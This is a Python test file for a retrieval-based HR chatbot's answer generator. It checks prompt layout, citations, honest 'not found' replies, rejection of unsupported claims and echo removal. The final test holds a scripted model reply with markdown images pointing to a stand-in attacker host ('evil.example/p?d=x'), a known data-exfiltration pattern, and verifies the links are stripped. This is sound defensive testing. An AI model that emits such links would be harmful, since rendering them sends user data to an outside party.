"""A model's answer: what it is given, and what is kept of what it says."""

from dataclasses import replace
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.dialogue.conversations import answered, hit, said

from yorisoi.dialogue.answer.generating import (
    Asked,
    estimated_tokens,
    generate,
    request,
    within_budget,
    without_echo,
)
from yorisoi.dialogue.config import AnswerConfig
from yorisoi.dialogue.phrases import phrases
from yorisoi.errors import MalformedReply
from yorisoi.testing.scripted_chat import ScriptedChat
from yorisoi.types import Hit

DAYS = hit(1, "夏季休暇（大阪支社）", "日数", text="有給で4日です。", 勤務地="大阪支社")


def asked(*hits: Hit, **more: object) -> Asked:
    return Asked(question="夏季休暇は何日ですか", language="ja", hits=hits or (DAYS,), **more)  # type: ignore[arg-type]


def shown(question: Asked, **config: object) -> tuple[str, str]:
    system, user = request(question, AnswerConfig(**config)).messages  # type: ignore[arg-type]
    return system.content, user.content


def test_who_is_told_what_day_it_is_may_say_so() -> None:
    question = asked(now=datetime(2026, 11, 29, 12))
    assert "today: 2026年11月29日、日曜日" in shown(question)[1]
    assert "today" not in shown(asked())[1]


def test_the_model_sees_numbered_passages_in_their_context_and_the_question_last() -> None:
    _, user = shown(asked(DAYS, hit(2, "病気休暇", text="年10日")))
    assert "[1] 夏季休暇（大阪支社）" in user
    assert "[2] 病気休暇" in user
    assert user.endswith("質問: 夏季休暇は何日ですか")


def test_where_marks_are_not_asked_for_none_are_shown() -> None:
    system, user = shown(asked(), citations="grounding")
    assert "[1]" not in system + user


def test_a_capable_model_sees_the_conversation_and_what_is_known_of_the_user() -> None:
    _, user = shown(
        asked(
            conversation=[said("夏休みは？"), answered("夏休みは？", "支社で\n違います。")],
            known=[("雇用区分", "契約社員")],
        )
    )
    assert "user: 夏休みは？\nassistant: 支社で 違います。" in user
    assert "雇用区分=契約社員" in user
    assert "<conversation>" not in shown(asked())[1]


async def test_the_answer_is_the_models_with_its_citations() -> None:
    answer = await generate(ScriptedChat(["夏季休暇は有給で4日です[1]。"]), asked(), AnswerConfig())
    assert answer.text == "夏季休暇は有給で4日です[1]。"
    assert [cite.passage_id for cite in answer.citations] == [1]
    assert answer.doubts == ()


async def test_an_honest_not_found_is_no_failure() -> None:
    answer = await generate(ScriptedChat(["文書には見つかりませんでした。"]), asked(), AnswerConfig())
    assert answer.text.startswith(phrases("ja").hardly_found)
    assert answer.citations == ()


async def test_a_capable_model_says_itself_what_is_not_found() -> None:
    said = "社員食堂のことは、文書には見つかりませんでした。"
    capable = replace(asked(), capable=True)
    answer = await generate(ScriptedChat([said]), capable, AnswerConfig())
    assert (answer.text, answer.citations) == (said, ())
    more = await generate(ScriptedChat([f"{said}毎週金曜日に無料です。"]), capable, AnswerConfig())
    assert (more.text, more.citations) == (phrases("ja").not_found, ())


async def test_what_is_claimed_beside_the_words_that_nothing_is_found_is_not_told() -> None:
    capable = replace(asked(), capable=True)
    for beside in ("一般に夏季休暇は50日です", "申請は社長室に出してください"):
        said = f"文書には見つかりませんでしたが、{beside}。"
        answer = await generate(ScriptedChat([said]), capable, AnswerConfig())
        assert (answer.text, answer.citations) == (phrases("ja").not_found, ())


async def test_a_model_that_puts_the_question_otherwise_told_nothing_by_that() -> None:
    reworded = replace(asked(), question="夏季休暇は50日ですか", said="夏季休暇は何日ですか")
    answer = await generate(ScriptedChat(["夏季休暇は50日です[1]。"]), reworded, AnswerConfig())
    assert answer.doubts == ("number not in the passages: 50",)


async def test_an_answer_that_rests_on_nothing_is_none() -> None:
    with pytest.raises(MalformedReply, match="supported"):
        await generate(ScriptedChat(["社員食堂は毎週金曜日に無料です。"]), asked(), AnswerConfig())


async def test_an_answer_that_was_cut_short_says_so() -> None:
    answer = await generate(
        ScriptedChat(["夏季休暇は有給で4日です。取り方は次のとおりです。"]), asked(), AnswerConfig(max_tokens=16)
    )
    assert answer.text.endswith(phrases("ja").cut_short)


def test_what_was_given_beside_the_documents_is_not_repeated() -> None:
    answer = "夏季休暇は3日です。\n\n利用者が以前話したこと:\n- 休みについて教えてください"
    assert without_echo(answer, "ja") == "夏季休暇は3日です。"
    assert without_echo("Three days.\n\nThe user said before:\n- hello", "en") == "Three days."


def test_an_answer_that_repeats_nothing_stays_as_it_is() -> None:
    answer = "夏季休暇は3日です。\n\n- 一斉休業日: 8月14日"
    assert without_echo(answer, "ja") == answer


@given(
    st.lists(st.text(alphabet="休暇abc", min_size=1, max_size=400), min_size=1, max_size=8),
    st.integers(1, 300),
    st.integers(1, 5),
)
def test_passages_fit_the_budget_in_their_order_and_one_is_always_given(
    texts: list[str], tokens: int, most: int
) -> None:
    hits = [hit(n, "", text=text) for n, text in enumerate(texts, start=1)]
    kept = within_budget(hits, tokens, most)
    assert 1 <= len(kept) <= most
    assert [each.passage.id for each in kept] == [each.passage.id for each in hits[: len(kept)]]
    spent = sum(estimated_tokens(each.passage.in_context) for each in kept)
    assert spent <= tokens + 2 or (len(kept) == 1 and len(kept[0].passage.text) < len(texts[0]))


async def test_images_and_addresses_that_no_passage_gave_are_neither_answered_nor_heard_while_it_is_written() -> None:
    page = hit(1, "夏季休暇", text="有給で4日です。申請は[様式](https://example.jp/form)から。")
    told = (
        "夏季休暇は有給で4日です[1]。![図](https://evil.example/p?d=x) 申請は[様式](https://example.jp/form)から。"
        "![図]【1】(//evil.example/q)以上です。"
    )
    heard: list[str] = []
    answer = await generate(ScriptedChat([told]), asked(page), AnswerConfig(), heard.append)
    for text in (answer.text, "".join(heard), *answer.doubts):
        assert "](//" not in text
        assert "evil.example/p" not in text
    assert "[様式](https://example.jp/form)" in answer.text
    assert "有給で4日です" in "".join(heard)
